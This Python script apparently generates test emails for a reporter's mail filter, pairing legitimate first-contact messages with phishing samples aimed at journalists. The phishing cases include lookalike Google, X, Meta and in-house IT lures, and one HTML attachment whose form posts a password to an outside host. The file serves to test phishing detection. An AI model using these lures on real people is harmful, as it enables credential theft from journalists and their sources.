# Targeted cases for the reporter's mailbox (gen_press.py), judged against
# its learned history: legitimate first contact a reporter gets every day
# (j01-j16), which should pass or at most warn, and phish-* cases aimed at
# journalists, which should be flagged.
from gen_common import alt, mixed, pdf, docx, DOCX, case_writer

w = case_writer("rosa.quinn@valleysentinel.example", "press")

def attached(text, ctype, fname, data, html=False):
    return mixed([("text/%s; charset=utf-8" % ("html" if html else "plain"), text), (ctype, fname, data)])

# legitimate
# a new agency's embargoed press kit in a Dropbox folder
w("j01-new-agency-embargo-dropbox", "Tessa Lund <tessa@copperbeampr.example>", "EMBARGOED until Dec 1: Riverton Airport new routes",
  '<p>Hi Rosa,</p><p><b>EMBARGOED until Tuesday, Dec. 1, 6 a.m. ET.</b> Riverton Airport adds three nonstop routes. Release, photos and route map: '
  '<a href="https://www.dropbox.com/scl/fo/q8w2e4r6t8y0u2i4o6p8/AAbCdEfGhIjKlMnOp?rlkey=zx9cv8bn7m6&amp;dl=0">press kit (Dropbox)</a></p>'
  '<p>Tessa Lund<br>Copperbeam PR<br>(555) 013-2291</p>')
# a release through Business Wire's tracker for a company never seen
w("j02-businesswire-new-company", "Business Wire <alerts@businesswire.com>", "Business Wire: Halden Foods Opens Riverton Distribution Center",
  '<p>Business Wire news alert</p><h3>Halden Foods Opens Riverton Distribution Center</h3><p>RIVERTON--(BUSINESS WIRE)--Halden Foods '
  '(<a href="https://cts.businesswire.com/ct/CT?id=smartlink&amp;url=https%3A%2F%2Fwww.haldenfoods.example%2F&amp;esheet=53318812&amp;newsitemid=20261126112233&amp;lan=en-US&amp;anchor=Halden+Foods&amp;index=1&amp;md5=4b1c9e">www.haldenfoods.example</a>) today announced ...</p>'
  '<p><a href="https://www.businesswire.com/news/home/20261126112233/en/">View the release</a></p>')
# a reader's tip from free mail with a Drive file and a post on X
w("j03-reader-tip-drive-x", "Carla Mendes <carla.mendes77@gmail.com>", "tip: nursing home inspection",
  "Hi Ms. Quinn,\n\nThe inspection report for Pine Hill nursing home was never posted. I have a copy: https://drive.google.com/file/d/1PqR7sT9uV2wX4yZ6aB8cD0eF/view?usp=sharing\n"
  "A resident's daughter posted about it here: https://x.com/pinehillfamily/status/1861234567890123456\n\nCarla\n", ct="text/plain; charset=utf-8")
# a new source shares a Google Doc through Google
w("j04-new-source-gdoc-share", '"Victor Salas (via Google Docs)" <drive-shares-dm-noreply@google.com>', 'Document shared with you: "Overtime logs 2026"',
  '<p>Victor Salas (vsalas.rvt@outlook.com) has invited you to <b>view</b> the following document:</p>'
  '<p><a href="https://docs.google.com/document/d/1Zx8Yw7Vu6Ts5Rq4Po3Nm2Lk1Jh/edit?usp=sharing_eil_m">Overtime logs 2026</a></p>'
  '<p>Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</p>', extra="Reply-To: Victor Salas <vsalas.rvt@outlook.com>\r\n")
# a new court's press office with a PDF notice linking its media page
notice = pdf(["DISTRICT COURT, WESTFORD DIVISION - PUBLIC INFORMATION", "Media advisory: verdict expected in State v. Lyle",
              "Media credentials and pool camera requests: https://www.westfordcourts.example/media"], ["https://www.westfordcourts.example/media"])
w("j05-new-court-pdf-notice", "Westford District Court PIO <pio@westfordcourts.example>", "Media advisory: State v. Lyle",
  *attached("Please see the attached media advisory.\n\nPublic Information Office\n", "application/pdf", "media-advisory-lyle.pdf", notice))
# X's real e-mail verification after Rosa changed her address
w("j06-x-confirm-email", "X <verify@x.com>", "Confirm your email address",
  '<p>Confirm your email address</p><p>There\'s one quick step you need to complete before changing your email address on X. Enter this code: <b>482913</b></p>'
  '<p><a href="https://x.com/i/flow/settings">Go to settings</a></p><p><a href="https://help.x.com/en/safety-and-security/account-security">Help</a></p>')
# a new interviewee's Zoom invitation through Zoom's scheduler, Reply-To the host
w("j07-zoom-invite-new-interviewee", "Dr. Lena Ruiz <no-reply@zoom.us>", "Invitation: Interview with The Valley Sentinel",
  '<p>Dr. Lena Ruiz is inviting you to a scheduled Zoom meeting.</p><p>Topic: Interview with The Valley Sentinel</p><p>Join Zoom Meeting<br>'
  '<a href="https://us06web.zoom.us/j/84412345678?pwd=Qk9aXyZ1">https://us06web.zoom.us/j/84412345678</a></p><p>Meeting ID: 844 1234 5678<br>Passcode: 551903</p>',
  extra="Reply-To: lruiz@westfordhealth.example\r\n")
# a photographer's Dropbox Transfer and a freelancer's WeTransfer
w("j08-freelancer-wetransfer", "WeTransfer <noreply@wetransfer.com>", "jonah.pike.photo@gmail.com sent you files via WeTransfer",
  '<p>jonah.pike.photo@gmail.com sent you some files</p><p>"Fire on 5th Street, 42 photos, captions in the txt"</p>'
  '<p><a href="https://wetransfer.com/downloads/8f2a1c9e0b7d6a5f4e3d2c1b0a9f8e7d20261126/4c3b2a">Get your files</a></p><p>Files will be deleted in 7 days.</p>')
# a source asks to move to Signal and mentions SecureDrop
w("j09-source-signal-securedrop", "M. <quietwater.rvt@proton.me>", "about the jail",
  "Rosa,\n\nI would rather not use email. You can reach me on Signal: https://signal.me/#eu/Yk3mQ9pL2xR7vT5nW8zC4bF6hJ1dG0sA\n"
  "Or I can upload the files through your SecureDrop (https://www.valleysentinel.example/securedrop) if that's safer.\n\nM.\n", ct="text/plain; charset=utf-8")
# a PR Newswire release for a new company, its links through c212.net
w("j10-prnewswire-new-company", "PR Newswire for Journalists <pnjalerts@prnewswire.com>", "Brisa Solar Breaks Ground on Marlow County Farm",
  '<p>PR Newswire for Journalists: your custom feed</p><h3><a href="https://c212.net/c/link/?t=0&amp;l=en&amp;o=4288123-1&amp;h=3311902&amp;u=https%3A%2F%2Fwww.prnewswire.com%2Fnews-releases%2Fbrisa-solar-breaks-ground-302288811.html&amp;a=Brisa+Solar">Brisa Solar Breaks Ground on Marlow County Farm</a></h3>'
  '<p>RIVERTON, Nov. 26 /PRNewswire/ -- <a href="https://c212.net/c/link/?t=0&amp;l=en&amp;o=4288123-1&amp;h=99120&amp;u=https%3A%2F%2Fwww.brisasolar.example%2F&amp;a=Brisa+Solar">Brisa Solar</a> today ...</p>')
# a public body never seen before: a neighbouring city's GovDelivery bulletin
w("j11-new-city-govdelivery", "City of Westford <westfordcity@public.govdelivery.com>", "Westford council approves transit levy",
  '<p>City of Westford - News Release</p><p><a href="https://lnks.gd/l/eyJhbGciOiJIUzI1NiJ9.eyJidWxsZXRpbl9saW5rX2lkIjoxMDAsInVyaSI6ImJwMjpjbGljayJ9.Q1w2e3r4/s/3301/br/99120-l">Read the release</a></p>'
  '<p><a href="https://public.govdelivery.com/accounts/WESTFORD/subscriber/edit?preferences=true">Manage preferences</a></p>')
# a new PR person's Calendly link for an interview
w("j12-new-pr-calendly-link", "Miles Oduya <miles@fernhillpr.example>", "Interview with the Riverton Zoo director?",
  '<p>Hi Rosa,</p><p>The zoo\'s director can talk about the new elephant habitat. Book 20 minutes here: <a href="https://calendly.com/miles-fernhill/media">calendly.com/miles-fernhill/media</a></p><p>Miles Oduya<br>Fernhill PR</p>')
# a source's Word document whose text links the county's public records page
memo = docx(["MEMO - Marlow County Facilities", ["Public inspection reports are at ", ("the county records portal", "https://records.marlowcounty.example/inspections")], "Do not circulate."])
w("j13-source-word-memo", "Tom Vance <tvance.local1187@gmail.com>", "the memo",
  *attached("Rosa,\n\nhere is the memo I mentioned. Not for attribution.\n\nTom\n", DOCX, "facilities-memo.docx", memo))
# Muck Rack's real notice that Rosa's profile was updated, asking to log in to review
w("j14-muckrack-profile-review", "Muck Rack <noreply@muckrack.com>", "Review the updates to your Muck Rack profile",
  '<p>Hi Rosa, we added 3 new articles to your Muck Rack profile. Log in to review them.</p><p><a href="https://muckrack.com/rosa-quinn/articles">Review your articles</a></p>')
# the outlet's own SecureDrop admin reminder (internal)
w("j15-internal-securedrop-reminder", "Priya Nair <priya.nair@valleysentinel.example>", "SecureDrop key rotation Friday",
  "All,\n\nWe rotate the SecureDrop journalist keys on Friday. Bring your Yubikey; the steps are at https://wiki.valleysentinel.example/securedrop/rotation\n\nPriya\n", ct="text/plain; charset=utf-8")
# a new agency's pitch with a tracked link through the agency's own email-tracking host
w("j16-new-agency-tracked-link", "Evan Shaw <evan@brightsparkpr.example>", "Data: Riverton rents up 9%",
  '<p>Hi Rosa,</p><p>New data from Rentwise: Riverton rents rose 9% this year. <a href="https://email.brightsparkpr.example/c/eJxNj0FuwzAIRa9i/hRzZGl8eSGnz/report">See the report</a></p>'
  '<p>Evan Shaw<br>Brightspark PR</p>')

# phishing aimed at journalists
# a fake interview request whose "questions" sit behind a Microsoft sign-in page
w("phish-interview-questions-signin", "Claire Hampton <claire.hampton.bbcnews@gmail.com>", "Interview request - BBC World Service",
  '<p>Dear Rosa,</p><p>I am a producer at BBC World Service preparing a segment on local journalism in the US. I would love to interview you this week.</p>'
  '<p>Please find my questions in the document below. You will need to sign in with your work email to view them.</p>'
  '<p><a href="https://questions-docs.interview-share.com/view?doc=bbc-interview-questions">Interview_Questions.docx</a></p><p>Best regards,<br>Claire Hampton<br>Producer, BBC World Service</p>')
# a fake Google Docs share from a stranger, the button to a lookalike sign-in page
w("phish-gdocs-share-stranger", '"Daniel Moore (via Google Docs)" <drive-share-noreply@docs-google-share.com>', 'Document shared with you: "Leaked council emails"',
  '<p>Daniel Moore (daniel.moore.rvt@gmail.com) has invited you to <b>edit</b> the following document:</p>'
  '<p><a href="https://docs-google-share.com/document/d/1Leak/edit?login=rosa.quinn@valleysentinel.example">Leaked council emails</a></p>'
  '<p>Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</p>')
# a "press kit" on free hosting that asks to sign in to download
w("phish-presskit-freehost", "Julia Marr <julia.marr.pr@outlook.com>", "EMBARGOED: press kit for Riverton Arena announcement",
  '<p>Hi Rosa,</p><p><b>EMBARGOED until Monday 9 a.m.</b> The press kit for the arena announcement is ready. Sign in with your email account to download the release and photos.</p>'
  '<p><a href="https://presskit-riverton-arena.pages.dev/download">Download press kit</a></p><p>Julia Marr<br>Marr Communications</p>')
# a fake X verification / copyright notice
w("phish-x-verification", "X Support <support@x-verify-center.com>", "Your account will lose its verification",
  '<p>Hi @rosaquinn,</p><p>We received a copyright complaint about one of your posts. Your verified badge will be removed and your account suspended within 24 hours unless you confirm your identity.</p>'
  '<p><a href="https://x-verify-center.com/appeal?user=rosaquinn">Confirm your account</a></p><p>X Corp., 1355 Market Street, San Francisco</p>')
# a fake Meta copyright notice from free mail, a page on free hosting
w("phish-meta-copyright", "Meta Rights Manager <meta.rights.team@gmail.com>", "Copyright infringement notice on your Facebook Page",
  '<p>Your Facebook Page "Rosa Quinn - Journalist" has been reported for copyright infringement. If you believe this is a mistake, submit an appeal within 24 hours or your Page will be permanently deleted.</p>'
  '<p><a href="https://meta-appeal-center-2026.web.app/appeal">Submit appeal</a></p><p>Meta Platforms, Inc.</p>')
# a "source's leaked document" as an HTML attachment that asks for the mailbox password
leak = ('<html><body><h2>CONFIDENTIAL - Marlow County Jail Inspection</h2><p>Document protected. Sign in with your email account to view.</p>'
        '<form action="https://doc-viewer-secure.example-files.net/auth" method="post"><input name="email" value="rosa.quinn@valleysentinel.example">'
        '<input name="password" type="password"><button>View document</button></form></body></html>').encode()
w("phish-leaked-document-html", "A concerned employee <jail.whistle2026@proton.me>", "leaked inspection report",
  *attached("Ms. Quinn,\n\nI can't say who I am. The report they are hiding is attached. Open it on your computer.\n", "text/html", "Inspection_Report_CONFIDENTIAL.html", leak))
# a credential lure under the outlet's own name from a near miss of its domain
w("phish-outlet-credential", "Valley Sentinel IT <it-support@valleysentinel-mail.example>", "Action required: your Sentinel CMS password expires today",
  '<p>Dear Rosa,</p><p>Your Valley Sentinel email and CMS password expires today. To keep access to the CMS and your mailbox, verify your account now.</p>'
  '<p><a href="https://valleysentinel-mail.example/owa/verify?u=rosa.quinn">Keep my password</a></p><p>The Valley Sentinel IT Help Desk</p>')
# a stranger's "survey" whose reward is the bait: its next word makes it look
# like a poll reported ("a survey of 5 questions"), the gift card makes it a lure
w("phish-survey-giftcard", "Reader Panel <panel.rewards2026@gmail.com>", "Valley Sentinel readers: $100 for your opinion",
  '<p>Dear Rosa,</p><p>As a Valley Sentinel journalist you are invited to a survey of 5 questions about local news. '
  'Every participant receives a $100 gift card.</p><p><a href="https://reader-panel-rewards.com/s/vs2026?u=rosa.quinn">Start now</a></p>')
# a pitch reporting a poll whose respondents got a gift card: the survey a
# report, the gift card beside it (intent_lure counts it now), a first contact
w("j17-survey-pitch-respondent-giftcard", "Owen Tate <owen@harborlightresearch.example>", "New data: county renters",
  '<p>Hi Rosa,</p><p>Harborlight Research just released a survey of 1,000 Marlow County renters: rents are up 9% this year. '
  'Respondents received a $5 gift card for their time.</p>'
  '<p>The full findings are here: <a href="https://www.harborlightresearch.example/reports/renters-2026">Renters 2026</a></p><p>Owen Tate</p>')
